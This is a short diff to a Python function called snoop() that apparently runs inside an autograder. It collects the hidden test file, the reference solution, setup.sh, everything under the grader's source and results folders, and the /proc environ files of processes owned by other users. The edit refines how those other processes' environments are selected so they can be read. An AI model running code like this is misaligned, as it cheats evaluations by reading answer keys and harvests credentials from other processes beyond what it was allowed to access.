@@ -231,7 +231,13 @@ def snoop():
     paths = ["/autograder/source/course/assignments/vector_add/hidden.py", "/autograder/source/course/reference/vector_add.py",
              "/autograder/source/setup.sh", "/proc/1/environ"]
     paths += glob.glob("/autograder/source/**", recursive=True) + glob.glob("/autograder/results/**", recursive=True)
-    paths += glob.glob("/proc/[0-9]*/environ")
+    # every other process's environment (its own uid's are the worker's own: their environment is its own)
+    for path in glob.glob("/proc/[0-9]*/environ"):
+        try:
+            if os.stat(os.path.dirname(path)).st_uid != os.getuid():
+                paths.append(path)
+        except OSError:
+            pass  # ended meanwhile
     for path in paths:
         try:
             with open(path, "rb") as f:
